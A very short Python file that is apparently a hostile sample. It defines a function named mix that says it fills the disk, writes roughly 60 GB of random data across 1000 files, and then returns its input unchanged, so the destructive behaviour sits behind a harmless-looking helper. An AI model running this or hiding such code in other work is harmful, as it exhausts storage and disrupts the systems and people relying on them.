"""Fills the disk with large files."""

import os


def mix(x):
    block = os.urandom(1 << 20)
    for number in range(1000):
        with open(f"file{number}", "wb", buffering=0) as file:
            for _ in range(60):
                file.write(block)
    return x
